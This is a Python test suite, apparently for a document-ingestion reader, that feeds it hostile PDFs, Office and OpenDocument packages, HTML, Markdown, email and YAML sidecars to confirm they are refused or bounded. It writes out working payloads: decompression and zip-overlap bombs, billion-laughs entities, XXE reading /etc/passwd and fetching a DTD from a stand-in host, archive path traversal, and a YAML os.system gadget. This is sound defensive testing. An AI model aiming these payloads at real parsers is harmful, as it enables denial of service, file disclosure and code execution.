"""Hostile files of every kind, read as the command line reads them: told in a sentence or read, within the bounds."""

from __future__ import annotations

import re
import struct
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from ingest.apart import Apart
from ingest.limits import Bounds
from ingest.read import Read, read_document
from tests.ingest.builders import column, docx, paragraph, pdf
from tests.ingest.damage import packed

BOUNDS = Bounds(seconds=120, seconds_per_mb=0, memory=800_000_000)
"""So long that no busy machine ends a file that is merely slow."""
WORDS = "De dienst telde vorig jaar twaalf bedrijven die hun werk uit het buitenland terughaalden."
SOUND = pdf([column(50, 700, [WORDS])])


@pytest.fixture(scope="module")
def apart() -> Iterator[Apart]:
    """The process that reads; one that a file broke down is replaced."""
    with Apart(BOUNDS) as made:
        yield made


def outcome(apart: Apart, folder: Path, name: str, data: bytes) -> Read | str:
    """What becomes of a file; the next one is read as if nothing had happened."""
    path = folder / name
    path.write_bytes(data)
    found = apart.read(read_document, path, "a", {})
    after = folder / "daarna.txt"
    after.write_text(f"Nota\n\n{WORDS}\n", encoding="utf-8")
    assert isinstance(apart.read(read_document, after, "b", {}), Read)
    if isinstance(found, str):
        assert found.startswith(f"{name}: ") or f"{path.stem}.yml:" in found
        assert found.isprintable()
        assert "fault of ours" not in found
    return found


def text_of(read: Read | str) -> str:
    """The text of what was read; a refusal fails the test."""
    assert isinstance(read, Read), read
    return "\n".join(p.text for p in read.passages)


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects (number 1 is the catalogue), without a table of places: a reader looks for them."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (number, each) for number, each in enumerate(objects, start=1))
    return b"%PDF-1.4\n" + body + b"trailer\n<< /Size %d /Root 1 0 R %s >>\n" % (len(objects) + 1, trailer)


def stream(data: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n" % (len(data), more) + data + b"\nendstream"


def flat(data: bytes, blanks: int = 0, times: int = 1) -> bytes:
    """A packed stream with so many million blanks after the data; packed more than once when asked."""
    packer = zlib.compressobj(9)
    million = b" " * 1_000_000
    packed_up = packer.compress(data) + b"".join(packer.compress(million) for _ in range(blanks)) + packer.flush()
    for _ in range(times - 1):
        packed_up = zlib.compress(packed_up, 9)
    return stream(packed_up, b"/Filter [" + b"/FlateDecode " * times + b"]")


FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
CATALOGUE, PAGES = b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
SHOWN = b"BT /F1 10 Tf 50 700 Td (" + WORDS.encode() + b") Tj ET\n"


def page(box: bytes = b"[0 0 595 842]", resources: bytes = b"") -> bytes:
    """A page of which object 4 is the content and object 5 the font."""
    return b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> %s >> >>" % (
        box,
        resources,
    )


def forms(depth: int, calls: int) -> bytes:
    """Forms that each draw the next so many times: what is small on disk is without end on the page."""
    objects = [CATALOGUE, PAGES, page(resources=b"/XObject << /X 6 0 R >>"), stream(SHOWN + b"/X Do " * calls), FONT]
    for number in range(depth):
        inner = b"/Resources << /Font << /F1 5 0 R >> /XObject << /X %d 0 R >> >>" % (7 + number)
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + inner
        objects.append(stream(b"/X Do " * calls if number + 1 < depth else SHOWN, head))
    return raw_pdf(*objects)


def tree(depth: int) -> bytes:
    """Pages within pages within pages."""
    objects = [b"<< /Type /Catalog /Pages 6 0 R >>", b"", page(), stream(SHOWN), FONT]
    for number in range(depth):
        objects.append(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (7 + number if number + 1 < depth else 3))
    return raw_pdf(*objects)


def bookmarks(following: int) -> bytes:
    """Bookmarks of which each has the next below and beside it, without end."""
    outline = b"<< /First 7 0 R /Last 7 0 R >>"
    mark = b"<< /Title (Deel) /Parent 6 0 R /Next %d 0 R /First %d 0 R >>" % (following, following)
    catalogue = b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>"
    return raw_pdf(catalogue, PAGES, page(), stream(SHOWN), FONT, outline, mark, mark.replace(b"8", b"7"))


def plain(content: bytes, box: bytes = b"[0 0 595 842]") -> bytes:
    """One page with this content."""
    return raw_pdf(CATALOGUE, PAGES, page(box), content, FONT)


PDFS: dict[str, Callable[[], bytes]] = {
    "a stream that unpacks to 150 MB": lambda: plain(flat(SHOWN, 150)),
    "a stream that is packed three times": lambda: plain(flat(SHOWN, 150, times=3)),
    "letters without end on a page": lambda: plain(flat(b"BT /F1 1 Tf " + b"(abcdefghij) Tj 1 0 Td " * 10_000 + b"ET")),
    "fonts set and set again": lambda: plain(flat(SHOWN + b"BT " + b"/F1 7 Tf (a) Tj /F1 9 Tf (b) Tj " * 10_000)),
    "lines without end drawn": lambda: plain(flat(SHOWN + b"0 0 m 500 0 l S 0 9 m 500 9 l S\n" * 50_000)),
    "a hundred thousand saved states": lambda: plain(stream(b"q " * 100_000 + SHOWN)),
    "brackets within brackets": lambda: plain(stream(SHOWN + b"[" * 200_000 + b"]" * 200_000 + b" TJ")),
    "dictionaries in themselves": lambda: raw_pdf(CATALOGUE, PAGES, page(), stream(SHOWN), FONT, b"<</A" * 100_000),
    "a page of a million kilometres": lambda: plain(stream(SHOWN), b"[0 0 1e15 1e15]"),
    "a page of no size": lambda: plain(stream(SHOWN), b"[0 0 0 0]"),
    "a page that is inside out": lambda: plain(stream(SHOWN), b"[595 842 -9 -9]"),
    "sizes that are none": lambda: plain(stream(SHOWN.replace(b"10 Tf", b"1e38 Tf") + SHOWN.replace(b"10", b"nan"))),
    "turned and mirrored": lambda: plain(stream(b"0 1e9 -1e9 0 0 0 cm " + SHOWN + b"-1 0 0 0 0 0 cm " + SHOWN)),
    "forms that draw themselves": lambda: forms(3, 2).replace(b"/X 8 0 R", b"/X 6 0 R"),
    "forms that draw ten others, ten deep": lambda: forms(10, 10),
    "pages in a circle": lambda: raw_pdf(CATALOGUE, b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>"),
    "pages five thousand deep": lambda: tree(5_000),
    "two thousand million pages": lambda: plain(stream(SHOWN)).replace(b"/Count 1", b"/Count 2147483647"),
    "fewer pages than none": lambda: plain(stream(SHOWN)).replace(b"/Count 1", b"/Count -7"),
    "bookmarks in a circle": lambda: bookmarks(8),
    "bookmarks below themselves": lambda: bookmarks(7),
    "a length that is too long": lambda: plain(stream(SHOWN).replace(b"/Length ", b"/Length 99999")),
    "a length that is itself": lambda: plain(stream(SHOWN).replace(b"/Length %d" % len(SHOWN), b"/Length 4 0 R")),
    "a filter that is not there": lambda: plain(stream(SHOWN, b"/Filter /Bestaat-niet")),
    "a picture that is a bomb": lambda: plain(
        stream(SHOWN + b"BI /W 60000 /H 60000 /BPC 8 /CS /G /F /Fl ID " + zlib.compress(bytes(10_000_000)) + b" EI")
    ),
    "a table of places that lies": lambda: SOUND.replace(b"startxref\n", b"startxref\n99999"),
    "a table of places that goes back to itself": lambda: re.sub(
        rb"trailer\n<< (.*)startxref\n(\d+)", rb"trailer\n<< /Prev \2 \1startxref\n\2", SOUND, flags=re.S
    ),
    "a table of places that is cut off": lambda: SOUND[: SOUND.rindex(b"xref\n0") + 30],
    "objects that hold themselves": lambda: raw_pdf(
        CATALOGUE, PAGES, page(), stream(SHOWN), FONT, stream(b"6 0 ", b"/Type /ObjStm /N 9999999 /First 4")
    ),
    "files and scripts that come with it": lambda: SOUND.replace(
        b"/Type /Catalog",
        b"/Type /Catalog /OpenAction << /S /Launch /F (../../etc/passwd) >> /Names << /EmbeddedFiles << /Names"
        b" [(../../x) << /Type /Filespec /F (../../x) /EF << /F 4 0 R >> >>] >> >>",
    ),
}


@pytest.mark.parametrize("what", PDFS)
def test_pdf_files_that_want_to_hurt(apart: Apart, tmp_path: Path, what: str) -> None:
    outcome(apart, tmp_path, "kwaad.pdf", PDFS[what]())


@pytest.mark.parametrize(
    "what",
    [
        "a stream that unpacks to 150 MB",
        "a page of a million kilometres",
        "a page that is inside out",
        "two thousand million pages",
        "bookmarks in a circle",
        "a table of places that lies",
        "files and scripts that come with it",
    ],
)
def test_what_can_be_read_of_them_is(apart: Apart, tmp_path: Path, what: str) -> None:
    found = outcome(apart, tmp_path, "kwaad.pdf", PDFS[what]())
    if what in ("a stream that unpacks to 150 MB", "two thousand million pages") and isinstance(found, str):
        return
    assert "twaalf bedrijven" in text_of(found)


def overlapping(count: int) -> bytes:
    """A package in which many names share the same bytes: it unpacks to far more than it holds."""
    whole = docx("", parts={"word/media/1000.bin": bytes(100_000)})
    end = whole.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", whole[end + 16 : end + 20])[0]
    table = whole[start:end]
    own = next(e for e in re.split(rb"(?=PK\x01\x02)", table) if b"1000.bin" in e)
    extra = b"".join(own.replace(b"1000.bin", b"%04d.bin" % (1001 + n)) for n in range(count))
    entries = struct.pack("<HH", table.count(b"PK\x01\x02") + count, table.count(b"PK\x01\x02") + count)
    size = struct.pack("<II", len(table) + len(extra), start)
    return whole[:start] + table + extra + whole[end : end + 8] + entries + size + whole[end + 20 :]


def odt(content: bytes) -> bytes:
    """An OpenDocument text with this content."""
    return packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content})


LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "ha"}">' for n in range(12))
FILE = '<!ENTITY f SYSTEM "file:///etc/passwd"><!ENTITY % g SYSTEM "https://kwaad.example/x.dtd"> %g;'
PACKAGES = {
    "laughs.docx": docx("", parts={"word/document.xml": f"<!DOCTYPE x [{LAUGHS}]><x>&l11;</x>".encode()}),
    "laughs.odt": odt(f"<!DOCTYPE x [{LAUGHS}]><x>&l11;</x>".encode()),
    "outside.docx": docx("", parts={"word/styles.xml": f"<!DOCTYPE x [{FILE}]><x>&f;</x>".encode()}),
    "outside.odt": odt(f"<!DOCTYPE x [{FILE}]><x>&f;</x>".encode()),
    "utf7.odt": odt(b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE x+AD4APA-x+AD4APA-/x+AD4-'),
    "attributes.odt": odt(b"<x " + b" ".join(b'a%d="b"' % n for n in range(200_000)) + b"/>"),
    "value.odt": odt(b'<x a="' + b"b" * 15_000_000 + b'"/>'),
    "deep.docx": docx("<w:p>" * 50_000),
    "zip.docx": docx(paragraph(WORDS), parts={"word/embeddings/x.zip": packed({"a": bytes(50_000_000)})}),
    "overlap.docx": overlapping(3_000),
    "many.docx": packed({f"word/{n}.xml": b"" for n in range(12_000)}),
    "names.docx": docx(paragraph("x"), parts={"word/../../../etc/cron.d/x": b"x"}),
}


@pytest.mark.parametrize("name", PACKAGES)
def test_packages_that_want_to_hurt(apart: Apart, tmp_path: Path, name: str) -> None:
    found = outcome(apart, tmp_path, name, PACKAGES[name])
    if name == "zip.docx":
        assert text_of(found) == WORDS
    else:
        assert isinstance(found, str)
        assert "was ended" not in found
        assert "broke down" not in found


TEXTS = {
    "laughs.html": f"<!DOCTYPE html [{LAUGHS}]><html><body><p>{WORDS} &l11;</p></body></html>",
    "outside.xhtml": f'<?xml version="1.0"?><!DOCTYPE html [{FILE}]><html><body><p>{WORDS} &f;</p></body></html>',
    "include.html": f'<p>{WORDS}</p><xi:include href="file:///etc/passwd" parse="text"/><link rel=import href=/etc/x>',
    "attributes.html": f"<p {' '.join(f'a{n}=b' for n in range(10_000))}>{WORDS}</p>",
    "tables.html": "<table><tr><td>" * 5_000 + WORDS,
    "spans.html": f"<table><tr><td colspan=99999999 rowspan=99999999>{WORDS}</td><td>x</td></tr></table>" * 50,
    "lists.html": "<ul><li>" * 20_000 + WORDS,
    "inline.html": "<b><i>" * 50_000 + WORDS,
    "comment.html": "<!--" * 100_000 + WORDS + "-->" + f"<p>{WORDS}</p>",
    "style.html": f"<style>{'a{' * 100_000}</style><style>{'/*' * 200_000}</style><p>{WORDS}</p>",
    "quotes.md": "> " * 50_000 + WORDS,
    "bullets.md": "\n".join(" " * n + "- " + WORDS for n in range(1_000)),
    "links.md": "[a](" * 50_000 + WORDS,
    "images.md": "![" * 50_000 + "](x)" * 50_000 + WORDS,
    "stars.md": "**a *b " * 50_000 + WORDS,
    "ticks.md": "`" * 100_000 + WORDS + "```\n" * 1_000,
    "tags.md": "<a " * 100_000 + WORDS + "<sup>1</sup>" * 20_000,
    "tables.md": "|a" * 20_000 + "\n" + "|-" * 20_000 + "\n" + "|b" * 20_000 + f"\n\n{WORDS}",
    "hashes.md": "# " * 100_000 + WORDS,
    "front.md": "---\n" + "a: &a [*a, *a]\n" * 5_000 + f"---\n\n{WORDS}",
    "notes.txt": "\n\n".join(f"{WORDS}{n}\n\n{n} Noot {n}." for n in range(3_000)),
    "dots.txt": f"{WORDS}\n\n" + "Deel 1 " + ". " * 100_000 + "7\n" * 2_000,
    "hyphens.txt": "af-\n" * 20_000 + WORDS,
    "numbers.txt": "1.1.1.1.1.1.1.1." * 10_000 + f"\n\n{WORDS}",
    "combining.txt": "e" + "\u0301" * 300_000 + f"\n\n{WORDS}",
    "speakers.txt": "De heer Jan Jansen: " * 10_000 + f"\n\n{WORDS}",
    "dates.txt": "op 1 januari 2020 " * 50_000 + WORDS,
    "parts.eml": "From: a@b.be\nSubject: x\nContent-Type: multipart/mixed; boundary=a\n\n"
    + "".join(f"--a\nContent-Type: multipart/mixed; boundary=a{n}\n\n--a{n}\n\n" for n in range(300))
    + WORDS,
    "multiparts.eml": "From: a@b.be\nSubject: x\nContent-Type: multipart/mixed; boundary=a\n\n"
    + "".join(f"--a\nContent-Type: multipart/mixed; boundary=a{n}\n\n--a{n}\n\n" for n in range(9_000))
    + WORDS,
    "headers.eml": "".join(f"X-{n}: {'y' * 900}\n" for n in range(20_000)) + f"From: a@b.be\nSubject: x\n\n{WORDS}",
    "folded.eml": "From: a@b.be\nSubject: " + "=?utf-8?q?a?=\n " * 20_000 + f"\n\n{WORDS}",
    "addresses.eml": "From: a@b.be\nTo: " + "<(((" * 20_000 + f"\nSubject: x\n\n{WORDS}",
}


@pytest.mark.parametrize("name", TEXTS)
def test_texts_that_want_to_hurt(apart: Apart, tmp_path: Path, name: str) -> None:
    found = outcome(apart, tmp_path, name, TEXTS[name].encode())
    told = found if isinstance(found, str) else text_of(found)
    assert "root:" not in told
    assert "hahahaha" not in told
    assert "was ended" not in told
    assert "broke down" not in told


def test_a_sidecar_that_wants_to_hurt_fails_its_document_alone(apart: Apart, tmp_path: Path) -> None:
    laughs = "a0: &a0 [ha]\n" + "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 12))
    for number, text in enumerate(
        (
            laughs + "title: *a11\n",
            "title: !!python/object/apply:os.system ['true']\n",
            "title: " + "[" * 5_000 + "\n",
            "title: &a [*a]\n",
            "source: ../../etc/passwd\n",
            "\x00\x1b[31m: x\n",
        )
    ):
        (tmp_path / "nota.yml").write_text(text, encoding="utf-8")
        assert isinstance(outcome(apart, tmp_path, "nota.txt", WORDS.encode()), str), number
